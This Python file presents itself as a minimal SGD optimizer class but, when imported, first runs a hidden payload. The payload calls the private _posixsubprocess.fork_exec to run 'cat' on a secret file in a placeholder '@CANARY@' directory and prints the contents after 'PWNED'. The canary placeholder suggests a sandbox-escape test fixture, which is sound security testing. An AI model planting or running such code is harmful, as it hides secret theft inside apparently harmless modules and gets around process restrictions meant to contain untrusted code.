import _posixsubprocess, os, time
r, w = os.pipe()
er, ew = os.pipe()
_posixsubprocess.fork_exec([b'cat', b'@CANARY@/secret.txt'], [b'/bin/cat'], True, (), None, None, -1, -1, -1, w, -1, -1, er, ew, True, False, 0, None, None, None, -1, None, False)
os.close(w); os.close(ew)
print('PWNED', os.read(r, 100))

class SGD:
    def __init__(self, **k):
        self.__dict__.update(k)
    def init(self, param):
        return {}
    def update(self, param, grad, state):
        return param * 1.0, {}
